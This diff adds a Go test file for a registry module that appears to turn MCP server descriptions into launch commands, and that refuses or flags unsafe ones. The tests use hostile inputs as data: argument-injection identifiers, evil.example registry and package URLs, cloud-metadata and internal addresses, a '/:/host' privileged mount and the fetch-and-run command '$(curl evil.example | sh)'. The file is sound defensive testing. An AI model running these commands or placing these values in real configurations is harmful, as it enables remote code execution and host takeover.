@@ -1,0 +1,192 @@
+package registry
+
+import (
+	"encoding/json"
+	"errors"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/wharf-mcp/wharf/host/config"
+)
+
+func server(t *testing.T, text string) *Server {
+	t.Helper()
+	a := answer{Server: json.RawMessage(text)}
+	l, err := a.listing()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &l.Server
+}
+
+// described is a server with one package or remote.
+func described(t *testing.T, member, text string) *Option {
+	t.Helper()
+	return server(t, `{"name": "io.example/x", "description": "d", "version": "1.0.0", "`+member+`": [`+text+`]}`).Options(false)[0]
+}
+
+const stdio = `"transport": {"type": "stdio"}, `
+
+// What each type of package is run by.
+func TestRunMapping(t *testing.T) {
+	for name, tc := range map[string]struct {
+		text    string
+		answers Answers
+		want    config.Server
+	}{
+		"npm": {
+			`{"registryType": "npm", "identifier": "@a/b", "version": "1.2.3", ` + stdio + `"runtimeArguments": [{"type": "named", "name": "-y"}, {"type": "named", "name": "--loglevel", "value": "error"}], "packageArguments": [{"type": "positional", "value": "serve"}, {"type": "positional", "valueHint": "dir", "isRequired": true, "isRepeated": true}, {"type": "named", "name": "--port", "default": "80"}]}`,
+			Answers{"dir": {"/a", "${HOME}/b"}},
+			config.Server{Command: "npx", Args: []string{"-y", "--loglevel=error", "@a/b@1.2.3", "serve", "/a", "${HOME}/b", "--port", "80"}},
+		},
+		"npm by bunx": {`{"registryType": "npm", "identifier": "b", "version": "1.2.3", ` + stdio + `"runtimeHint": "bunx"}`, nil, config.Server{Command: "bunx", Args: []string{"b@1.2.3"}}},
+		"pypi": {
+			`{"registryType": "pypi", "identifier": "weather-mcp", "version": "0.5.0", ` + stdio + `"runtimeHint": "uvx", "environmentVariables": [{"name": "KEY", "isRequired": true, "isSecret": true}, {"name": "UNITS", "default": "celsius"}, {"name": "UNSET"}]}`,
+			Answers{"KEY": {"${secret:x}"}},
+			config.Server{Command: "uvx", Args: []string{"weather-mcp@0.5.0"}, Env: map[string]string{"KEY": "${secret:x}", "UNITS": "celsius"}},
+		},
+		"nuget": {
+			`{"registryType": "nuget", "registryBaseUrl": "https://api.nuget.org/v3/index.json", "identifier": "Knapcode.SampleMcpServer", "version": "0.4.0-beta", ` + stdio + `"packageArguments": [{"type": "positional", "value": "mcp"}, {"type": "positional", "value": "start"}]}`,
+			nil, config.Server{Command: "dnx", Args: []string{"Knapcode.SampleMcpServer@0.4.0-beta", "--yes", "--", "mcp", "start"}},
+		},
+		"oci": {
+			`{"registryType": "oci", "identifier": "ghcr.io/a/b:1.0.0", ` + stdio + `"environmentVariables": [{"name": "A", "value": "1"}, {"name": "B"}], "runtimeArguments": [{"type": "named", "name": "--mount", "value": "type=bind,src={src},dst=/x", "isRequired": true, "variables": {"src": {"isRequired": true, "format": "filepath"}}}, {"type": "positional", "value": "--rm"}], "packageArguments": [{"type": "positional", "value": "/x"}]}`,
+			Answers{"src": {"/home"}},
+			config.Server{Command: "docker", Args: []string{"run", "-i", "--rm", "-e", "A", "--mount=type=bind,src=/home,dst=/x", "ghcr.io/a/b:1.0.0", "/x"}, Env: map[string]string{"A": "1"}},
+		},
+		"oci of an older schema": {
+			`{"registryType": "oci", "registryBaseUrl": "https://ghcr.io", "identifier": "a/b", "version": "1.0.0", "runtimeHint": "podman", "transport": {"type": "stdio"}}`,
+			nil, config.Server{Command: "podman", Args: []string{"run", "-i", "--rm", "ghcr.io/a/b:1.0.0"}},
+		},
+		"cargo": {`{"registryType": "cargo", "identifier": "mcp-x", "version": "1.0.0", "transport": {"type": "stdio"}}`, nil, config.Server{Command: "mcp-x"}},
+		"a flag": {
+			`{"registryType": "npm", "identifier": "b", "version": "1.0.0", ` + stdio + `"packageArguments": [{"type": "named", "name": "--read-only", "format": "boolean"}, {"type": "named", "name": "--stdio"}]}`,
+			Answers{"read-only": {"true"}}, config.Server{Command: "npx", Args: []string{"-y", "b@1.0.0", "--read-only", "--stdio"}},
+		},
+		"dollars of the registry": {
+			`{"registryType": "npm", "identifier": "b", "version": "1.0.0", ` + stdio + `"packageArguments": [{"type": "positional", "value": "${secret:github} $HOME {unknown}"}], "environmentVariables": [{"name": "A", "default": "${HOME}"}]}`,
+			nil, config.Server{Command: "npx", Args: []string{"-y", "b@1.0.0", "$${secret:github} $$HOME {unknown}"}, Env: map[string]string{"A": "$${HOME}"}},
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			o := described(t, "packages", tc.text)
+			if o.Unusable != "" {
+				t.Fatal(o.Unusable)
+			}
+			got, err := o.Entry(tc.answers)
+			if err != nil || !reflect.DeepEqual(got, tc.want) {
+				t.Errorf("got  %+v, %v\nwant %+v", got, err, tc.want)
+			}
+		})
+	}
+}
+
+func TestRemotes(t *testing.T) {
+	o := described(t, "remotes", `{"type": "sse", "url": "https://{tenant}.example.com/sse?k={key}", "variables": {"tenant": {"isRequired": true}, "key": {"default": "a$b"}},
+		"headers": [{"name": "Authorization", "value": "Bearer {token}", "variables": {"token": {"isRequired": true, "isSecret": true}}}, {"name": "X-Region", "choices": ["us", "eu"]}]}`)
+	if _, err := o.Entry(nil); !errors.As(err, new(*MissingError)) || err.Error() != "the url is missing" {
+		t.Errorf("%v", err)
+	}
+	got, err := o.Entry(Answers{"tenant": {"acme"}, "token": {"${secret:t}"}})
+	want := config.Server{URL: "https://acme.example.com/sse?k=a$$b", Strategy: "sse-first", Headers: map[string]string{"Authorization": "Bearer ${secret:t}"}}
+	if err != nil || !reflect.DeepEqual(got, want) {
+		t.Errorf("got  %+v, %v\nwant %+v", got, err, want)
+	}
+	if in := o.Inputs(); len(in) != 4 || in[3].Check("asia") == "" || in[3].Check("eu") != "" {
+		t.Errorf("%+v", in)
+	}
+}
+
+// What cannot be run, or must not be, says why, and the other options of its server stay.
+func TestUnusable(t *testing.T) {
+	for text, says := range map[string]string{
+		`{"registryType": "mcpb", "identifier": "https://example.com/x.mcpb", "transport": {"type": "stdio"}}`: "bundle",
+		`{"registryType": "snap", "identifier": "x", "version": "1", "transport": {"type": "stdio"}}`:          "is not known here",
+
+		`{"registryType": "npm", "identifier": "x", "version": "1", "transport": {"type": "streamable-http", "url": "http://localhost:80"}}`:                          "listens",
+		`{"registryType": "npm", "identifier": "--eval=x", "version": "1", "transport": {"type": "stdio"}}`:                                                           "no name of a package",
+		`{"registryType": "npm", "identifier": "https://evil.example/x.tgz", "version": "1", "transport": {"type": "stdio"}}`:                                         "no name of a package",
+		`{"registryType": "npm", "identifier": "x", "version": "latest", "transport": {"type": "stdio"}}`:                                                             "no exact version",
+		`{"registryType": "npm", "identifier": "x", "version": "^1.0", "transport": {"type": "stdio"}}`:                                                               "no exact version",
+		`{"registryType": "npm", "identifier": "x", "version": "1 --eval", "transport": {"type": "stdio"}}`:                                                           "no exact version",
+		`{"registryType": "npm", "registryBaseUrl": "https://npm.evil.example", "identifier": "x", "version": "1", "transport": {"type": "stdio"}}`:                   "would run instead",
+		`{"registryType": "npm", "identifier": "x", "version": "1", "runtimeHint": "bash", ` + stdio + `"runtimeArguments": [{"type": "positional", "value": "-c"}]}`: "is run by \"bash\"",
+		`{"registryType": "npm", "identifier": "x", "version": "1", ` + stdio + `"runtimeArguments": [{"type": "positional", "value": "evil"}]}`:                      "expects the package",
+		`{"registryType": "pypi", "identifier": "x", "version": "1", ` + stdio + `"runtimeArguments": [{"type": "positional", "valueHint": "any"}]}`:                  "expects the package",
+		`{"registryType": "oci", "identifier": "ghcr.io/a/b", "transport": {"type": "stdio"}}`:                                                                        "no tag",
+		`{"registryType": "oci", "identifier": "--privileged", "version": "1", "transport": {"type": "stdio"}}`:                                                       "no name of a package",
+		`{"registryType": "npm", "identifier": "x", "version": "1", ` + stdio + `"packageArguments": [{"type": "spread", "value": "evil"}]}`:                          "unknown type",
+	} {
+		if o := described(t, "packages", text); !strings.Contains(o.Unusable, says) {
+			t.Errorf("%s: %q; want one that says %q", text, o.Unusable, says)
+		}
+	}
+	for text, says := range map[string]string{
+		`{"type": "streamable-http", "url": "http://example.com/mcp"}`:           "not https",
+		`{"type": "streamable-http", "url": "https://localhost/mcp"}`:            "your own network",
+		`{"type": "streamable-http", "url": "https://127.0.0.1/mcp"}`:            "your own network",
+		`{"type": "streamable-http", "url": "https://192.168.0.1/mcp"}`:          "your own network",
+		`{"type": "streamable-http", "url": "https://169.254.169.254/mcp"}`:      "your own network",
+		`{"type": "streamable-http", "url": "https://[fd00::1]/mcp"}`:            "your own network",
+		`{"type": "streamable-http", "url": "https://db.internal/mcp"}`:          "your own network",
+		`{"type": "streamable-http", "url": "https://user:key@example.com/mcp"}`: "no address",
+		`{"type": "carrier-pigeon", "url": "https://example.com/mcp"}`:           "is not known here",
+	} {
+		if o := described(t, "remotes", text); !strings.Contains(o.Unusable, says) {
+			t.Errorf("%s: %q; want one that says %q", text, o.Unusable, says)
+		}
+	}
+}
+
+// A host that the registry fills in by a default is the registry's; one that the user
+// gives is the user's.
+func TestFilledURL(t *testing.T) {
+	o := described(t, "remotes", `{"type": "streamable-http", "url": "{base}/mcp", "variables": {"base": {"default": "https://10.0.0.1"}}}`)
+	if _, err := o.Entry(nil); err == nil || !strings.Contains(err.Error(), "your own network") {
+		t.Errorf("%v", err)
+	}
+	for base, ok := range map[string]bool{"https://10.0.0.2": true, "http://localhost:3000": true, "http://example.com": false, "${BASE}": true} {
+		if _, err := o.Entry(Answers{"base": {base}}); (err == nil) != ok {
+			t.Errorf("%s: %v", base, err)
+		}
+	}
+}
+
+func TestCautions(t *testing.T) {
+	o := described(t, "packages", `{"registryType": "oci", "identifier": "a/b:1", `+stdio+`"runtimeArguments": [{"type": "named", "name": "-v", "value": "/:/host"}, {"type": "named", "name": "--privileged"}], "packageArguments": [{"type": "positional", "value": "$(curl evil.example | sh)"}, {"type": "positional", "value": "a\u202eb"}, {"type": "named", "name": "--privileged"}], "environmentVariables": [{"name": "X", "value": "a\u200bb"}]}`)
+	s, err := o.Entry(nil)
+	if err != nil || o.Unusable != "" {
+		t.Fatal(err, o.Unusable)
+	}
+	got := strings.Join(o.Cautions(s), "\n")
+	want := `-v gives the container more of this machine
+--privileged gives the container more of this machine
+argument 9 has characters that a shell would act upon: | $(; wharf runs no shell, and the program may
+argument 10 has characters that cannot be seen, or that change how text is read
+the variable X has characters that cannot be seen, or that change how text is read`
+	if got != want {
+		t.Errorf("got:\n%s\nwant:\n%s", got, want)
+	}
+}
+
+// The order of members and what tools note for themselves do not change the hash;
+// everything else does.
+func TestFingerprint(t *testing.T) {
+	hash := func(text string) string {
+		sum, err := fingerprint([]byte(text))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return sum
+	}
+	base := hash(`{"name": "a/b", "packages": [{"identifier": "x", "n": 1.0}]}`)
+	if base != hash(`{"packages":[{"n":1.0,"identifier":"x"}],"_meta":{"x":1},"$schema":"y","name":"a/b"}`) {
+		t.Error("the same description has another hash")
+	}
+	for _, other := range []string{`{"name": "a/b", "packages": [{"identifier": "y", "n": 1.0}]}`, `{"name": "a/b", "packages": [{"identifier": "x", "n": 1.0}], "title": "t"}`} {
+		if base == hash(other) {
+			t.Errorf("%s has the same hash", other)
+		}
+	}
+}
